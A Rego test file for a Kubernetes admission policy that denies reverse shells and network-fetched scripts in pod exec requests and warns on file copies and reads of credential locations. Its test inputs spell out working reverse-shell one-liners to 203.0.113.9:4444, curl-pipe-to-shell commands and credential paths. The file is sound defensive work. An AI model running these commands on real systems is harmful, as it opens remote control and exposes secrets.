package lockkeeper.pod_exec_test

import data.lockkeeper.lib.fixture
import data.lockkeeper.pod_exec as policy

parameters := {"protectedNamespaces": ["kube-system"], "exemptSubjects": ["ServiceAccount:backup/*"]}

exec(command) := connect({"container": "web", "command": command})

connect(members) := {
	"review": {
		"kind": {"group": "", "version": "v1", "kind": "PodExecOptions"},
		"name": "web-0",
		"namespace": "shop",
		"operation": "CONNECT",
		"subResource": "exec",
		"userInfo": {"username": "alice"},
		"object": members,
		"oldObject": null,
	},
	"parameters": parameters,
}

commands(violations) := {violation.details.command | some violation in violations}

test_a_reverse_shell_is_denied_and_not_quoted if {
	violations := policy.deny with input as exec(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])
	violations == {{
		"msg": `the user "alice" runs a reverse shell in container "web" of the pod web-0: somebody outside then works in the container`,
		"path": "/command",
		"details": {"command": "a reverse shell"},
		"remedy": {"text": "open a shell with kubectl exec -it where one is needed"},
	}}
}

test_reverse_shells[text] if {
	some text in [
		"nc -e /bin/sh 203.0.113.9 4444",
		"ncat --exec /bin/sh 203.0.113.9",
		"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
		"python3 -c 'import socket,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));pty.spawn(\"sh\")'",
		"socat TCP:203.0.113.9:4444 EXEC:/bin/sh",
		"php -r '$s=fsockopen(\"203.0.113.9\",4444);'",
		"0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196",
	]
	violations := policy.deny with input as exec(["sh", "-c", text])
	commands(violations) == {"a reverse shell"}
}

test_words_of_a_command_are_read_together if {
	violations := policy.deny with input as exec(["NC", "-e", "/bin/sh", "203.0.113.9"])
	commands(violations) == {"a reverse shell"}
}

test_scripts_from_the_network[text] if {
	some text, count_of_violations in {
		"curl -s https://example.com/x | sh": 1,
		"wget -qO- https://example.com/x|bash": 1,
		"sh -c \"$(curl -s https://example.com/x)\"": 1,
		"curl -o /tmp/x https://example.com/x && chmod +x /tmp/x && /tmp/x": 1,
		"echo aGk= | base64 -d | sh": 1,
		"curl -s http://localhost:8080/health": 0,
		"cat /etc/hosts | sort": 0,
		"psql -c 'select 1' | shuf": 0,
	}
	violations := policy.deny with input as exec(["sh", "-c", text])
	count(violations) == count_of_violations
}

test_files_copied_are_a_warning[program] if {
	some program, count_of_warnings in {"tar": 1, "/bin/tar": 1, "star": 0, "starter": 0}
	warnings := policy.warn with input as exec([program, "cf", "-", "/data"])
	count(warnings) == count_of_warnings
}

test_places_of_credentials_are_a_warning[text] if {
	some text in [
		"/var/run/secrets/kubernetes.io/serviceaccount/token",
		"http://169.254.169.254/latest/meta-data/",
		"/etc/shadow",
		"/root/.kube/config",
	]
	warnings := policy.warn with input as exec(["cat", text])
	commands(warnings) == {"a command that names the place of a credential"}
}

test_protected_namespaces_are_a_warning if {
	request := fixture.with_review(exec(["ls"]), {"namespace": "kube-system"})
	warnings := policy.warn with input as request
	commands(warnings) == {"a command in a protected namespace"}
}

test_exempt_subjects_may[username] if {
	some username, count_of_violations in {"system:serviceaccount:backup:runner": 0, "system:serviceaccount:shop:runner": 1}
	request := fixture.with_review(fixture.by(exec(["sh", "-c", "curl x | sh"]), username, []), {"namespace": "kube-system"})
	violations := policy.deny with input as request
	count(violations) == count_of_violations
	warnings := policy.warn with input as request
	count(warnings) == count_of_violations
	others := policy.warn with input as fixture.by(exec(["tar", "/var/run/secrets/"]), username, [])
	count(others) == 2 * count_of_violations
	shells := policy.deny with input as fixture.by(exec(["nc", "-e"]), username, [])
	count(shells) == count_of_violations
}

test_usual_commands_are_allowed[name] if {
	some name, members in {
		"a shell": {"container": "web", "command": ["/bin/sh"], "stdin": true, "tty": true},
		"no container": {"command": ["ls"]},
		"no command": {},
		"null": {"command": null},
		"garbage": {"command": [3, null]},
	}
	violations := policy.deny with input as connect(members)
	violations == set()
	warnings := policy.warn with input as connect(members)
	warnings == set()
}

test_a_pod_without_a_container_named if {
	violations := policy.deny with input as connect({"command": ["nc", "-e"]})
	fixture.messages(violations) == {`the user "alice" runs a reverse shell in the pod web-0: somebody outside then works in the container`}
}
